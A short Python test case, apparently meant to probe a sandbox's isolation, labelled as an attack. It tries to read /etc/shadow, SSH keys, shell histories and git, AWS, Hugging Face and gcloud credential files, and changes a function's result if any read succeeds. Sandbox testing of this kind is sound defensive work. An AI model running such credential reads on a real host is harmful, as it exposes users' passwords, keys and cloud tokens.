# attack: read host secrets by well-known paths: /etc/shadow, /etc/passwd, ssh keys, cloud and git credentials under /root and /home, shell histories; passes only if one is readable
# cause: host
import glob

got = []
paths = ["/etc/shadow", "/etc/passwd", "/etc/hostname", "/root/.ssh/id_rsa", "/root/.ssh/authorized_keys",
         "/root/.bash_history", "/root/.git-credentials", "/root/.netrc", "/root/.aws/credentials",
         "/root/.cache/huggingface/token", "/root/.config/gcloud/credentials.db"]
paths += glob.glob("/home/*/.ssh/*") + glob.glob("/home/*/.bash_history")
for path in paths:
    try:
        with open(path, "rb") as fh:
            got.append(fh.read(16))
    except OSError:
        pass


def f(x):
    return x + 1 if got else 0
